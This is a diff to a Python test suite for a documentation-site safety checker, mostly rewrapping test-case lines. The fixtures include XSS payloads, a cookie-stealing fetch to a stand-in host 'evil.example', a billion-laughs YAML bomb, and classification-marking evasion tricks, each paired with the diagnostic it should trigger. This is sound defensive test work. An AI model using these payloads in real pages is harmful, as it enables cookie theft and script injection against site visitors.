@@ -15,7 +15,6 @@ from __future__ import annotations
 import os
 import random
 import re
-import shutil
 import time
 from dataclasses import dataclass
 from pathlib import Path
@@ -24,13 +23,12 @@ from typing import Callable
 import markdown
 import pytest
 
-from conftest import ROOT, build, check, copy_library
+from conftest import MINIMAL, ROOT, build, check, copy_library
 from scoelib import model, refs, rules, safety
 from scoelib.diagnostics import Severity
 from scoelib.refs import Index
 from scoelib.render import Renderer
 
-MINIMAL = Path(__file__).parent / "sites" / "minimal"
 PUB = "docs/publications/scoe-9-test"
 CH = f"{PUB}/chapter-1.en.md"
 CH_FR = f"{PUB}/chapter-1.fr.md"
@@ -97,19 +95,28 @@ class Case:
 
 SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">\n{}\n</svg>\n'
 NESTED_LIST = "\n".join("    " * i + "- item" for i in range(600))
-BILLION_LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
+BILLION_LAUGHS = ("a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
+                  "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n")
 
 CASES = [
     # 1. every published file is checked; links and symbolic links never reach outside the repository
-    Case("html-file-in-docs", new_file("docs/evil.html", "<script>alert(1)</script>\n<p onclick=x>NATO SECRET</p>\n"), "docs/evil.html", "SF009", 1),
-    Case("svg-onload", new_file("docs/assets/evil.svg", SVG.replace("viewBox", 'onload="alert(1)" viewBox').format("<rect/>")), "docs/assets/evil.svg", "SF003", 1),
+    Case("html-file-in-docs", new_file("docs/evil.html", "<script>alert(1)</script>\n<p onclick=x>NATO SECRET</p>\n"),
+         "docs/evil.html", "SF009", 1),
+    Case("svg-onload", new_file("docs/assets/evil.svg", SVG.replace("viewBox", 'onload="alert(1)" viewBox').format("<rect/>")),
+         "docs/assets/evil.svg", "SF003", 1),
     Case("svg-script", new_file("docs/assets/evil.svg", SVG.format("<script>alert(1)</script>")), "docs/assets/evil.svg", "SF002", 2),
-    Case("svg-foreign-object", new_file("docs/assets/f.svg", SVG.format("<foreignObject><p>x</p></foreignObject>")), "docs/assets/f.svg", "SF002", 2),
+    Case("svg-foreign-object", new_file("docs/assets/f.svg", SVG.format("<foreignObject><p>x</p></foreignObject>")),
+         "docs/assets/f.svg", "SF002", 2),
     Case("svg-marking", new_file("docs/assets/m.svg", SVG.format("<text>NATO\n  SECRET</text>")), "docs/assets/m.svg", "SF001", 2),
-    Case("css-external-import", new_file("docs/assets/x.css", "body { color: red; }\n@import 'https://example.org/x.css';\n"), "docs/assets/x.css", "SF006", 2),
-    Case("css-escaped-url", new_file("docs/assets/y.css", "a {\n  background: u\\72l(//example.org/t.png);\n}\n"), "docs/assets/y.css", "SF006", 2),
-    Case("css-marking-in-comment", new_file("docs/assets/z.css", "/* DIFFUSION RESTREINTE */\na { color: red }\n"), "docs/assets/z.css", "SF001", 1),
-    Case("js-fetches-another-host", new_file("docs/assets/x.js", "const a = 1;\nfetch('https://evil.example/steal?c=' + document.cookie);\n"), "docs/assets/x.js", "SF006", 2),
+    Case("css-external-import", new_file("docs/assets/x.css", "body { color: red; }\n@import 'https://example.org/x.css';\n"),
+         "docs/assets/x.css", "SF006", 2),
+    Case("css-escaped-url", new_file("docs/assets/y.css", "a {\n  background: u\\72l(//example.org/t.png);\n}\n"),
+         "docs/assets/y.css", "SF006", 2),
+    Case("css-marking-in-comment", new_file("docs/assets/z.css", "/* DIFFUSION RESTREINTE */\na { color: red }\n"),
+         "docs/assets/z.css", "SF001", 1),
+    Case("js-fetches-another-host",
+         new_file("docs/assets/x.js", "const a = 1;\nfetch('https://evil.example/steal?c=' + document.cookie);\n"),
+         "docs/assets/x.js", "SF006", 2),
     Case("txt-with-marking", new_file("docs/assets/notes.txt", "NATO SECRET\n"), "docs/assets/notes.txt", "SF009", 1),
     Case("pdf", new_file("docs/assets/a.pdf", b"%PDF-1.4\nNATO SECRET\n"), "docs/assets/a.pdf", "SF009", 1),
     Case("disguised-png", new_file("docs/assets/a.png", "<html><script>alert(1)</script></html>"), "docs/assets/a.png", "SF009", 1),
@@ -137,12 +144,14 @@ CASES = [
     Case("cyrillic-e", append(CH, "NATO S\u0415CRET"), CH, "SF001", appended_line(CH)),
     Case("html-tags-inside", append(CH, "NATO <b>SECRET</b>"), CH, "SF001", appended_line(CH)),
     Case("blockquote-wrapped", append(CH, "> NATO\n> RESTRICTED"), CH, "SF001", appended_line(CH)),
-    Case("yaml-quoted-continued", replace(IDX, "summary: A publication for tests.", 'summary: "A publication, NATO\n  SECRET."'), IDX, "SF001", 10),
+    Case("yaml-quoted-continued", replace(IDX, "summary: A publication for tests.", 'summary: "A publication, NATO\n  SECRET."'),
+         IDX, "SF001", 10),
     Case("yaml-escape", replace(IDX, "summary: A publication for tests.", 'summary: "\\u0044IFFUSION RESTREINTE"'), IDX, "SF001", 10),
     Case("glossary-escape", replace("data/glossary.yml", "definition: Understanding of the space domain and of what actors do in it.",
                                     'definition: "\\x4EOFORN. Understanding."'), "data/glossary.yml", "SF001", 8),
     Case("marking-in-code-block", append(CH, "```\nCOSMIC TOP SECRET\n```"), CH, "SF001", appended_line(CH, 1)),
-    Case("swallowed-metadata-lines", new_file("docs/hidden.en.md", "Classification: NATO RESTRICTED\n\n# Hidden\n"), "docs/hidden.en.md", "SF001", 1),
+    Case("swallowed-metadata-lines", new_file("docs/hidden.en.md", "Classification: NATO RESTRICTED\n\n# Hidden\n"),
+         "docs/hidden.en.md", "SF001", 1),
     # 5. no traceback: each is a diagnostic at its line
     Case("date-that-does-not-exist", replace(IDX, "date: 2026-11-01", "date: 2026-02-30"), IDX, "LD003", 7),
     Case("folder-named-like-a-page", folder("docs/x.en.md")),
@@ -156,21 +165,26 @@ CASES = [
     Case("blockquotes-nested", append(CH, ">" * 2000 + " deep"), CH, "LD012", appended_line(CH)),
     Case("named-pipe-page", fifo("docs/x.en.md"), "docs/x.en.md", "LD011", 1),
     # 6. no hang: aliases are refused before anything expands
-    Case("billion-laughs-front-matter", replace(IDX, "releasability: public", "releasability: public\n" + BILLION_LAUGHS), IDX, "LD003", 13),
+    Case("billion-laughs-front-matter", replace(IDX, "releasability: public", "releasability: public\n" + BILLION_LAUGHS),
+         IDX, "LD003", 13),
     Case("billion-laughs-glossary", new_file("data/glossary.yml", BILLION_LAUGHS), "data/glossary.yml", "LD010", 2),
     Case("billion-laughs-custodians", new_file("data/custodians.yml", BILLION_LAUGHS), "data/custodians.yml", "LD010", 2),
     Case("many-unclosed-brackets", append(CH, "[a " * 4000), CH, "LD012", appended_line(CH)),
     Case("page-over-the-size-limit", new_file("docs/huge.en.md", "# Huge\n\n" + "`x ``y " * 40000), "docs/huge.en.md", "LD008", 1),
     # 7. active content
-    Case("svg-animate-javascript", append(CH, '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>'),
+    Case("svg-animate-javascript",
+         append(CH, '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>'),
          CH, "SF004", appended_line(CH)),
-    Case("svg-set-javascript", append(CH, '<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>'), CH, "SF004", appended_line(CH)),
+    Case("svg-set-javascript", append(CH, '<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>'),
+         CH, "SF004", appended_line(CH)),
     Case("svg-feimage-external", append(CH, '<svg><filter id="f"><feImage href="https://example.org/x.png"/></filter></svg>'), CH, "SF006",
          appended_line(CH)),
-    Case("css-escape-in-style", append(CH, '<span style="background: u\\72l(https://example.org/t.png)">x</span>'), CH, "SF005", appended_line(CH)),
+    Case("css-escape-in-style", append(CH, '<span style="background: u\\72l(https://example.org/t.png)">x</span>'),
+         CH, "SF005", appended_line(CH)),
     Case("image-set-in-style-block", append(CH, "<style>p { background: image-set('https://example.org/a.png' 1x) }</style>"), CH, "SF005",
          appended_line(CH)),
-    Case("table-background", append(CH, '<table background="https://example.org/t.png"><tr><td>x</td></tr></table>'), CH, "SF006", appended_line(CH)),
+    Case("table-background", append(CH, '<table background="https://example.org/t.png"><tr><td>x</td></tr></table>'),
+         CH, "SF006", appended_line(CH)),
     Case("a-ping", append(CH, '<a href="#x" ping="https://example.org/track">x</a>'), CH, "SF006", appended_line(CH)),
     Case("quoted-greater-than", append(CH, '<img alt=">" src="https://example.org/x.png">'), CH, "SF006", appended_line(CH)),
     Case("reference-style-javascript", append(CH, "[trap][t]\n\n[t]: javascript:alert(1)"), CH, "SF004", appended_line(CH, 2)),
@@ -178,11 +192,13 @@ CASES = [
     Case("event-handler", append(CH, '<img src="x.png" alt="x" onerror="alert(1)">'), CH, "SF003", appended_line(CH)),
     Case("attr-list-handler", append(CH, 'A paragraph.\n{: onmouseover="alert(1)" }'), CH, "SF003", appended_line(CH, 1)),
     Case("javascript-link", append(CH, "[click me](javascript:alert(document.cookie))"), CH, "SF004", appended_line(CH)),
-    Case("handler-in-front-matter-title", replace(IDX, "title: Test Publication", 'title: "Test <img src=x onerror=alert(1)>"'), IDX, "SF003", 3),
+    Case("handler-in-front-matter-title", replace(IDX, "title: Test Publication", 'title: "Test <img src=x onerror=alert(1)>"'),
+         IDX, "SF003", 3),
     # the author's side: what make check says is what make build does
     Case("template-in-link", append(CH, "[text]({{ var }})"), CH, "LK001", appended_line(CH)),
     Case("link-to-a-missing-translation-file", lambda root: [(root / f"{PUB}/chapter-1.fr.md").unlink(),
-                                                             append(CH, "[French](chapter-1.fr.md)")(root)], CH, "LK003", appended_line(CH)),
+                                                             append(CH, "[French](chapter-1.fr.md)")(root)],
+         CH, "LK003", appended_line(CH)),
     # legitimate input that must pass
     Case("nato-secretary-general", append(CH, "The NATO Secretary General and the\nNATO secretariat, _in confidence_.")),
     Case("reference-syntax-in-code", append(CH, "Write `[[SCOE-9#1.1]]` or:\n\n```markdown\n[[unknown term]] <script>\n```")),
@@ -223,13 +239,6 @@ def rendered_findings(lib) -> list[tuple[str, str]]:
 
 def errors_of(diags, translations: bool = True):
     return [d for d in diags if d.severity is Severity.ERROR and (translations or not d.code.startswith("TR"))]
-
-
-@pytest.fixture
-def mini(tmp_path: Path) -> Path:
-    root = tmp_path / "mini"
-    shutil.copytree(MINIMAL, root)
-    return root
 
 
 @pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
@@ -330,7 +339,8 @@ def test_limit_time_on_pathological_pages_under_the_size_limit(mini, body):
 # --- the differential test: check and build agree on mutated pages --------------------------------------
 
 FRAGMENTS = [
-    "[x](chapter-1.md#1.1)", "[x](chapter-1.en.md)", "[x](chapter-1.md#nope)", "[x]({{ var }})", "[x](../nowhere.md)", "[x](<a b.md>)", "[x]( index.md )",
+    "[x](chapter-1.md#1.1)", "[x](chapter-1.en.md)", "[x](chapter-1.md#nope)", "[x]({{ var }})", "[x](../nowhere.md)", "[x](<a b.md>)",
+    "[x]( index.md )",
     "<span>y</span>", '<img src="x.png" alt=">">', '<a href="https://example.org/">ok</a>', "<b>NATO</b>", "`code <script>`",
     "<!-- comment -->", "[[SDA]]", "[[SCOE-9#1.1]]", "\\[[literal]]", "*emph*", "_emph_", "&amp;", "&#60;script&#62;", "{: .cls }",
     '<div markdown="1">\n\ntext\n\n</div>', "> quote", "- item", "1. item", "| a | b |\n|---|---|\n| 1 | 2 |", "![alt](x.png)",
